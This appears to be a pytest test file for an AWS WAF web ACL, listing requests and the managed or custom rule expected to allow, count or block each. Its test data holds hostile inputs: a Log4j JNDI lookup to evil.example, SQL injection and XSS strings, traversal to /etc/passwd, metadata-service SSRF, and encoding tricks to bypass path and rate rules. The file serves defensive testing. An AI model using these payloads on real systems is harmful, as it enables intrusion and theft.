"""A table of requests: the web ACL allows, counts or blocks each, by the named rule."""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any

import pytest

from tests.conftest import Built
from tests.models.edge.waf import MANAGED, Request, evaluate

STACK = "CarmenProdEdgeGlobal"
BROWSER = {"host": "carmen.example.com", "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:142.0)", "cookie": "session=alice"}
MEGABYTE = 1_000_000
PICTURE = "\x89PNG" + "x" * 20_000
RICH_TEXT = '<p onclick="x()">Delivery <b>note</b></p><script>alert("hello")</script>'
BOMB = "${jndi:ldap://evil.example/a}"
INJECTION = "' or 1=1 -- "


@dataclass(frozen=True)
class Row:
    """A request, the rule that blocks it (none: allowed), and the rules that count it."""

    name: str
    request: Request
    blocked_by: str = ""
    counted: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name


def _get(path: str, query: str = "", recent: int = 1, **headers: str) -> Request:
    return Request(path, "GET", query, BROWSER | {name.replace("_", "-"): value for name, value in headers.items()}, recent=recent)


def _from(ip_set: str, request: Request) -> Request:
    return replace(request, sets=frozenset({ip_set}))


def _post(path: str, body: str = "{}", declared: int | None = None, method: str = "POST", recent: int = 1) -> Request:
    """`declared` is Content-Length where the body itself would be too long for a test; 0: chunked, none declared."""
    length = {} if declared == 0 else {"content-length": str(declared or len(body))}
    return Request(path, method, "", BROWSER | length, body, recent)


TABLE = [
    # Normal use
    Row("page", _get("/dashboard")),
    Row("RSC payload", _get("/dashboard", "_rsc=1a2b", rsc="1")),
    Row("image", _get("/_next/image", "url=%2Fimages%2Fa.png&w=640&q=75")),
    Row("search with an apostrophe", _get("/api/vendors", "q=O'Brien+%26+Sons")),
    Row("search that names SQL words", _get("/api/vendors", "q=select+or+drop+a+table+union")),
    Row("link back after sign-in", _get("/login", "callbackUrl=https%3A%2F%2Fcarmen.example.com%2Fdashboard")),
    Row("session of next-auth, polled all day", _get("/api/auth/session", recent=900)),
    Row("small body", _post("/api/orders", '{"note": "two boxes"}')),
    Row("deletion", _post("/api/orders/1", "", method="DELETE")),
    Row("webhook with a user agent", Request("/api/webhooks/pos", "POST", "", {"user-agent": "pos/1", "host": "carmen.example.com"}, "{}")),
    # Bodies: rich text and SQL words are counted, not blocked
    Row("rich text with a script", _post("/api/notes", RICH_TEXT), counted=("Common/CrossSiteScripting_BODY",)),
    Row("rich text in a server action", _post("/notes/7", RICH_TEXT), counted=("Common/CrossSiteScripting_BODY",)),
    Row("note with SQL in it", _post("/api/notes", "Never write ' or 1=1"), counted=("SqlInjection/SQLi_BODY",)),
    Row("note about a slow query", _post("/api/notes", "select pg_sleep(1)"), counted=("SqlInjection/SQLiExtendedPatterns_BODY",)),
    Row("order of 9 KB", _post("/api/orders", "x" * 9000), counted=("Common/SizeRestrictions_BODY",)),
    Row("order declared just below 1 MB", _post("/api/orders", "x" * 9000, MEGABYTE - 1), counted=("Common/SizeRestrictions_BODY",)),
    Row("all of it at once", _post("/api/notes", RICH_TEXT + INJECTION + "x" * 9000),
        counted=("Common/SizeRestrictions_BODY", "Common/CrossSiteScripting_BODY", "SqlInjection/SQLi_BODY")),
    # Uploads: large, any content except known bad inputs
    Row("upload of 25 MB", _post("/api/upload", PICTURE, 25 * MEGABYTE), counted=("Common/SizeRestrictions_BODY",)),
    Row("upload by PUT below the prefix", _post("/api/upload/avatars/7", PICTURE, 2 * MEGABYTE, "PUT"), counted=("Common/SizeRestrictions_BODY",)),
    Row("upload that names a folder above", _post("/api/upload", "../../etc/passwd"), counted=("Common/GenericLFI_BODY",)),
    Row("upload that names the metadata service", _post("/api/upload", "see http://169.254.169.254/"),
        counted=("Common/EC2MetaDataSSRF_BODY", "Common/GenericRFI_BODY")),
    Row("upload with a Log4j bomb", _post("/api/upload", BOMB), "KnownBadInputs/Log4JRCE_BODY"),
    Row("25 MB elsewhere", _post("/api/orders", PICTURE, 25 * MEGABYTE), "LargeBody"),
    Row("1 MB elsewhere", _post("/dashboard", PICTURE, MEGABYTE), "LargeBody"),
    Row("25 MB beside the prefix", _post("/upload", PICTURE, 25 * MEGABYTE), "LargeBody"),
    Row("25 MB through the prefix", _post("/api/upload/../orders", PICTURE, 25 * MEGABYTE), "ParentReference"),
    Row("25 MB through the prefix, escaped", _post("/api/upload/%2e%2e/orders", PICTURE, 25 * MEGABYTE), "ParentReference"),
    Row("25 MB through a prefix escaped twice", _post("/api/%2575pload", PICTURE, 25 * MEGABYTE), "LargeBody"),
    Row("25 MB to the prefix, escaped", _post("/api/%75pload", PICTURE, 25 * MEGABYTE), "LargeBody"),
    Row("25 MB to a path that begins like the prefix", _post("/api/uploads", PICTURE, 25 * MEGABYTE), "LargeBody"),
    Row("a length written with zeros", Request("/api/orders", "POST", "", BROWSER | {"content-length": "00000002"}, "{}"), "LargeBody"),
    # Without Content-Length, WAF cannot compare: the application's own limit applies
    Row("chunks of no declared length", _post("/api/orders", PICTURE, 0), counted=("Common/SizeRestrictions_BODY",)),
    # Attacks in bodies elsewhere
    Row("folder above", _post("/api/orders", "file=../../etc/passwd"), "BodyAttacks", ("Common/GenericLFI_BODY",)),
    Row("address to include", _post("/api/orders", "u=http://203.0.113.9/x"), "BodyAttacks", ("Common/GenericRFI_BODY",)),
    Row("metadata service", _post("/api/orders", "u=169.254.169.254"), "BodyAttacks", ("Common/EC2MetaDataSSRF_BODY",)),
    Row("folder above, through the prefix", _post("/api/upload/../orders", "file=../../x"), "ParentReference"),
    Row("Log4j in a body", _post("/api/orders", BOMB), "KnownBadInputs/Log4JRCE_BODY"),
    Row("deserialization in a body", _post("/api/orders", "(java.lang.Runtime).getRuntime()"), "KnownBadInputs/JavaDeserializationRCE_BODY"),
    # Attacks elsewhere in a request
    Row("SQL in a query", _get("/api/vendors", "q=%27%20or%201%3D1%20--"), "SqlInjection/SQLi_QUERYARGUMENTS"),
    Row("union select in a query", _get("/api/vendors", "q=1+union+select+password"), "SqlInjection/SQLi_QUERYARGUMENTS"),
    Row("SQL in a cookie", _get("/", cookie="a=' or 1=1"), "SqlInjection/SQLi_COOKIE"),
    Row("script in a query", _get("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"), "Common/CrossSiteScripting_QUERYARGUMENTS"),
    Row("script in a path", _get("/%3Cscript%3E"), "Common/CrossSiteScripting_URIPATH"),
    Row("folder above in a query", _get("/api/files", "name=..%2F..%2Fetc%2Fpasswd"), "Common/GenericLFI_QUERYARGUMENTS"),
    Row("folder above in a path", _get("/images/../../etc/passwd"), "ParentReference"),
    Row("metadata through the image optimiser", _get("/_next/image", "url=http%3A%2F%2F169.254.169.254%2F"), "Common/EC2MetaDataSSRF_QUERYARGUMENTS"),
    Row("address through the image optimiser", _get("/_next/image", "url=http%3A%2F%2F203.0.113.9%2F"), "Common/GenericRFI_QUERYARGUMENTS"),
    Row("Log4j in a header", _get("/", x_api_version=BOMB), "KnownBadInputs/Log4JRCE_HEADER"),
    Row("Log4j in a query", _get("/", "x=$%7Bjndi:ldap://evil.example/%7D"), "KnownBadInputs/Log4JRCE_QUERYSTRING"),
    # Scanners
    Row("scanner by its name", _get("/", user_agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)"), "Common/UserAgent_BadBots_HEADER"),
    Row("no user agent", Request("/", headers={"host": "carmen.example.com"}), "Common/NoUserAgent_HEADER"),
    Row("log file", _get("/storage/laravel.log"), "Common/RestrictedExtensions_URIPATH"),
    Row("WEB-INF", _get("/WEB-INF/web.xml"), "KnownBadInputs/ExploitablePaths_URIPATH"),
    Row("PROPFIND", _post("/", "", method="PROPFIND"), "KnownBadInputs/PROPFIND_METHOD"),
    Row("host localhost", _get("/", host="localhost"), "KnownBadInputs/Host_localhost_HEADER"),
    Row("address with a bad reputation", Request("/dashboard", headers=BROWSER, bad_reputation=True), "AmazonIpReputation/AWSManagedIPReputationList"),
    # Floods
    Row("long query", _get("/dashboard", "q=" + "a" * 2048), "Common/SizeRestrictions_QUERYSTRING"),
    Row("query of 2,048 bytes", _get("/dashboard", "q=" + "a" * 2046)),
    Row("long path", _get("/" + "a" * 1024), "Common/SizeRestrictions_URIPATH"),
    Row("11 KB of cookies", _get("/", cookie="a=" + "b" * 11_000), "Common/SizeRestrictions_Cookie_HEADER"),
    Row("300 headers (CloudFront ends them at 20,480 bytes)", Request("/", headers=BROWSER | {f"x-{n}": "v" for n in range(300)})),
    Row("sign-in, 101st in five minutes", _post("/api/auth/callback/credentials", recent=101), "RateSignIn"),
    Row("sign-in, 100th in five minutes", _post("/api/auth/callback/credentials", recent=100)),
    Row("sign-in, escaped", _post("/api/%61uth/callback/credentials", recent=101), "RateSignIn"),
    Row("sign-in, two slashes", _post("/api//auth/callback/credentials", recent=101), "RateSignIn"),
    Row("sign-in, a detour", _post("/api/x/../auth/./signin", recent=101), "ParentReference"),
    Row("sign-in, this folder", _post("/api/./auth/%2e/signin", recent=101), "RateSignIn"),
    Row("API, 1001st", _get("/api/orders", recent=1001), "RateApi"),
    Row("API, 1000th", _get("/api/orders", recent=1000)),
    Row("site, 3001st", _get("/dashboard", recent=3001), "RateSite"),
    Row("site through images", _get("/images/../dashboard"), "ParentReference"),
    Row("site as an escaped image", _get("/images%2fdashboard", recent=3001), "RateSite"),
    Row("dots in a name", _get("/images/a..b/...png", recent=5000)),
    Row("static files, as many as a page needs", _get("/_next/static/chunks/a.js", recent=5000)),
    # Modes that operators enable
    Row("an address that was blocked", _from("Blocked", _get("/dashboard")), "BlockedAddresses"),
    Row("an address that was blocked, for a static file", _from("Blocked", _get("/images/a.png")), "BlockedAddresses"),
    Row("under attack: a page", _from("AttackMode", _get("/dashboard")), "AttackModeChallenge"),
    Row("under attack: the API cannot answer a challenge", _from("AttackMode", _get("/api/orders", recent=300))),
    Row("under attack: the API, 301st", _from("AttackMode", _get("/api/orders", recent=301)), "AttackModeRateLimit"),
    Row("under attack: static files", _from("AttackMode", _get("/_next/static/chunks/a.js", recent=5000))),
]  # fmt: skip


def _acl(built: Built) -> dict[str, Any]:
    (acl,) = built.resources("AWS::WAFv2::WebACL", STACK).values()
    return dict(acl["Properties"])


def _difference(acl: dict[str, Any], row: Row) -> str:
    """Return the difference to the row, or an empty string."""
    verdict = evaluate(acl, row.request)
    found = (verdict.action, verdict.rule, tuple(verdict.counted))
    action = "Challenge" if row.blocked_by.endswith("Challenge") else "Block" if row.blocked_by else "Allow"
    expected = (action, row.blocked_by, row.counted)
    return "" if found == expected else f"{row.name}: {found} instead of {expected}"


@pytest.mark.parametrize("row", TABLE, ids=str)
def test_request_is_allowed_counted_or_blocked_as_listed(built: Built, row: Row) -> None:
    assert _difference(_acl(built), row) == ""


def test_rules_and_labels_exist_at_aws(built: Built) -> None:
    """WAF accepts misspelt names, which have no effect."""
    for rule in _acl(built)["Rules"]:
        if group := rule["Statement"].get("ManagedRuleGroupStatement"):
            published = {one.name for one in MANAGED[group["Name"]][1]}
            assert {one["Name"] for one in group.get("RuleActionOverrides", [])} <= published
    labels = {f"awswaf:managed:aws:{prefix}:{rule.label}" for prefix, rules in MANAGED.values() for rule in rules}
    (attacks,) = [rule for rule in _acl(built)["Rules"] if rule["Name"] == "BodyAttacks"]
    any_label, _ = attacks["Statement"]["AndStatement"]["Statements"]
    assert {one["LabelMatchStatement"]["Key"] for one in any_label["OrStatement"]["Statements"]} <= labels


def _rule(acl: dict[str, Any], name: str) -> dict[str, Any]:
    found: dict[str, Any] = next(rule for rule in acl["Rules"] if rule["Name"] == name)
    return found


def _block_by_body_rules(acl: dict[str, Any]) -> None:
    _rule(acl, "Common")["Statement"]["ManagedRuleGroupStatement"]["RuleActionOverrides"] = []


def _check_labels_too_early(acl: dict[str, Any]) -> None:
    _rule(acl, "BodyAttacks")["Priority"] = -1


def _ignore_upload_paths(acl: dict[str, Any]) -> None:
    statement = _rule(acl, "LargeBody")["Statement"]
    _rule(acl, "LargeBody")["Statement"] = statement["AndStatement"]["Statements"][0]


def _do_not_decode_paths(acl: dict[str, Any]) -> None:
    scope = _rule(acl, "RateSignIn")["Statement"]["RateBasedStatement"]["ScopeDownStatement"]
    scope["AndStatement"]["Statements"][0]["ByteMatchStatement"]["TextTransformations"] = [{"Priority": 0, "Type": "NONE"}]


def _allow_one_digit_more(acl: dict[str, Any]) -> None:
    _rule(acl, "LargeBody")["Statement"]["AndStatement"]["Statements"][0]["SizeConstraintStatement"]["Size"] += 1


def _remove_sql_rules(acl: dict[str, Any]) -> None:
    acl["Rules"].remove(_rule(acl, "SqlInjection"))


@pytest.mark.parametrize(
    ("mistake", "changed_row"),
    [
        (_block_by_body_rules, "rich text with a script"),
        (_check_labels_too_early, "folder above"),
        (_ignore_upload_paths, "upload of 25 MB"),
        (_do_not_decode_paths, "sign-in, escaped"),
        (_allow_one_digit_more, "1 MB elsewhere"),
        (_remove_sql_rules, "SQL in a query"),
    ],
)
def test_mistake_in_the_rules_is_noticed(built: Built, mistake: Callable[[dict[str, Any]], None], changed_row: str) -> None:
    acl = copy.deepcopy(_acl(built))
    mistake(acl)
    (row,) = [row for row in TABLE if row.name == changed_row]
    assert _difference(acl, row) != ""
